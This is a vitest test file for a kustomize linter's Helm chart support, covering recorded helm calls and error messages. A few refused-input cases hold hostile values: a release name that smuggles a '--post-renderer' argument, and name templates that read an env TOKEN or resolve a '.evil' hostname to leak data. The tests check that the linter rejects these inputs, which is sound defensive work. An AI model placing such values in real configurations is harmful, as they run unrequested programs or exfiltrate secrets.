import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import type { BuildOptions } from '../../../src/kustomize/build.ts';
import { buildRoot } from '../../../src/kustomize/build.ts';
import { dialects } from '../../../src/kustomize/dialect.ts';
import { HelmFailure, type HelmProgram, helmProgram } from '../../../src/kustomize/helm/helm-program.ts';
import { nodeFileSystem } from '../../../src/source/files/file-system.ts';
import { SourceCache } from '../../../src/source/source-cache.ts';
import { enter } from '../../support/disk.ts';
import { buildFiles, configMap, namesOf, problemsOf, textOf } from '../build-files.ts';

const fixture = join(import.meta.dirname, '../../../fixtures/helm');

/**
 * A helm that gives what the real one gave to the real kustomize, call by call, and notes what it is asked for: the
 * arguments, one a line, and the values that were made for it.
 */
class RecordedHelm implements HelmProgram {
  readonly calls: string[] = [];
  readonly #folder: string;
  #values = '';

  constructor(folder: string) {
    this.#folder = folder;
  }

  run(args: readonly string[]): string {
    if (args[0] === 'version') return 'v3.18.6+gb76a950';
    const number = String(this.calls.length + 1).padStart(2, '0');
    const lines = args.map((arg) => `${arg.replace(enter(join(fixture, 'input')), 'TREE')}\n`);
    this.calls.push(`${lines.join('')}--- values\n${this.#values}`);
    return readFileSync(join(this.#folder, `${number}.yaml`), 'utf8');
  }

  withFolder: HelmProgram['withFolder'] = (use) =>
    use({
      path: 'TMP',
      write: (name, content) => {
        this.#values = Buffer.from(content).toString();
        return `TMP/${name}`;
      },
    });
}

/** A helm that renders one text for any chart. */
function helmOf(rendered: string, version = 'v3.18.6'): HelmProgram {
  return {
    run: (args) => (args[0] === 'version' ? version : rendered),
    withFolder: (use) => use({ path: '/tmp/x', write: (name) => name }),
  };
}

const chart = { '/charts/shop/Chart.yaml': 'name: shop\n', '/charts/shop/values.yaml': '' };

function buildChart(kustomization: string, helm: HelmProgram, options: BuildOptions = {}) {
  return buildFiles({ ...chart, '/kustomization.yaml': kustomization }, '/', { helm, ...options });
}

describe('charts on disk', () => {
  // Recorded with helm 3.18.6 and `kustomize build --enable-helm`, of which `recorded` holds what it asked helm for. 5.8.2
  // asks for the same as 5.8.
  test.each(dialects)('are rendered as kustomize %s has them rendered', (dialect) => {
    const recorded = dialect === '5.7' ? '5.7' : '5.8';
    const folder = join(fixture, 'recorded', recorded);
    const helm = new RecordedHelm(folder);
    const root = buildRoot(enter(join(fixture, 'input/overlay')), { dialect, helm }, new SourceCache());
    expect(textOf(root)).toBe(readFileSync(join(fixture, `expected-${recorded}.yaml`), 'utf8'));
    const asked = readdirSync(folder).filter((name) => name.endsWith('.txt'));
    expect(helm.calls).toEqual(asked.map((name) => readFileSync(join(folder, name), 'utf8')));
  });

  test('come from the entry that asks for them', () => {
    const root = buildChart('namePrefix: x-\nhelmCharts:\n  - name: shop\n', helmOf(configMap('a')));
    expect(namesOf(root)).toEqual(['ConfigMap/x-a']);
    expect(root.resources[0]?.node.origin).toMatchObject({
      kind: 'generated',
      by: 'helm chart',
      configuredIn: { start: 37 },
    });
  });

  test('are left out while helm may not be run', () => {
    const root = buildFiles({ ...chart, '/kustomization.yaml': 'helmCharts: [{name: shop}]\n' });
    expect(problemsOf(root)).toEqual([
      '/kustomization.yaml:1:21 incomplete: the Helm chart `shop` is left out, since migrate-lint runs no program (`--enable-helm` lets it run helm for charts on disk); what it would add is not checked',
    ]);
  });

  test('are never pulled', () => {
    const root = buildChart(
      'helmCharts: [{name: shop, version: 1.0.0, repo: "https://charts.example.com"}]\n',
      helmOf(''),
    );
    expect(problemsOf(root)).toEqual([
      '/kustomization.yaml:1:21 incomplete: the Helm chart `shop` is left out, since it is not at `/charts/shop-1.0.0/shop`, and migrate-lint pulls nothing; what it would add is not checked',
    ]);
  });

  test.each([
    [
      'helmCharts: [{name: other}]',
      helmOf(''),
      'the Helm chart `other` is not at `/charts/other`, and no `repo` says where it is pulled from',
    ],
    ['helmCharts: [{releaseName: x}]', helmOf(''), 'a chart needs a name; add `name` to this entry'],
    [
      'helmCharts: [{name: shop, releaseName: --post-renderer=./x}]',
      helmOf(''),
      '`--post-renderer=./x` cannot be the name of a release; it starts with a dash',
    ],
    [
      'helmCharts: [{name: shop, nameTemplate: "shop-{{ env `TOKEN` | lower }}"}]',
      helmOf(''),
      '`nameTemplate` asks `env` for what is not in the tree, and migrate-lint does not run it; give the release a `releaseName`',
    ],
    [
      'helmCharts: [{name: shop, nameTemplate: "{{ $h := printf `%s.evil` .x }}{{ $h | getHostByName }}"}]',
      helmOf(''),
      '`nameTemplate` asks `getHostByName` for what is not in the tree, and migrate-lint does not run it; give the release a `releaseName`',
    ],
    [
      'helmCharts: [{name: shop, valuesMerge: both, valuesInline: {a: b}}]',
      helmOf(''),
      '`valuesMerge` must be merge, override or replace, but it is both',
    ],
    [
      'helmCharts: [{name: shop, valuesInline: {a: b}}]',
      helmOf(''),
      '`/charts/shop/values.yaml` holds no values, and kustomize merges inline ones into no empty file; write `{}` into it, or set `valuesMerge: replace`',
    ],
    [
      'helmCharts: [{name: shop, valuesFile: ../values.yaml}]',
      helmOf(''),
      '`../values.yaml` does not exist; create it or remove this entry',
    ],
    [
      'helmCharts: [{name: shop}]',
      helmOf('', 'v2.17.0'),
      'the Helm chart `shop`: kustomize 5.8 works with helm 3 and 4, and this one is v2.17.0',
    ],
    [
      'helmCharts: [{name: shop}]',
      helmOf('a: b\n'),
      'the Helm chart `shop` renders what cannot be built: an object without `kind` cannot be built; add `kind:`, or take the document out',
    ],
    [
      'helmCharts: [{name: shop}]',
      {
        ...helmOf(''),
        run: () => {
          throw new HelmFailure('`helm` fails: no');
        },
      },
      'the Helm chart `shop`: `helm` fails: no',
    ],
  ])('%s is refused', (kustomization, helm, message) => {
    const root = buildChart(`${kustomization}\n`, helm);
    expect(root.problems.map((problem) => `${problem.kind}: ${problem.message}`)).toEqual([`error: ${message}`]);
  });

  test('kustomize 5.7 knows helm 3 only', () => {
    const root = buildChart('helmCharts: [{name: shop}]\n', helmOf('', 'v4.0.0'), { dialect: '5.7' });
    expect(root.problems[0]?.message).toMatch('kustomize 5.7 works with helm 3, and this one is v4.0.0');
    expect(buildChart('helmCharts: [{name: shop}]\n', helmOf('', 'v4.0.0')).problems).toEqual([]);
  });
});

describe('the helm of this machine', () => {
  // These want a `sh`.
  const onPosix = test.skipIf(process.platform === 'win32');
  const script = (text: string) => helmProgram('sh').run(['-c', text], '/config');

  onPosix('has the variables that kustomize sets', () => {
    expect(script('echo $HELM_CONFIG_HOME $HELM_CACHE_HOME $HELM_DATA_HOME')).toBe(
      '/config /config/.cache /config/.data\n',
    );
  });

  onPosix('says why it fails', () => {
    expect(() => script('echo something >&2; echo "Error: no values" >&2; exit 3')).toThrow('`sh` fails: no values');
    expect(() => script('kill -9 $$')).toThrow('`sh` was ended by SIGKILL');
    expect(() => helmProgram('/nowhere/helm').run([], '')).toThrow('there is no `/nowhere/helm` to run');
  });

  test('has a folder for values only while it is asked', () => {
    const path = helmProgram('sh').withFolder((folder) => {
      expect(Buffer.from(nodeFileSystem.readFile(folder.write('values.yaml', 'a: b'))).toString()).toBe('a: b');
      return folder.path;
    });
    expect(nodeFileSystem.stat(path)).toBeUndefined();
  });
});
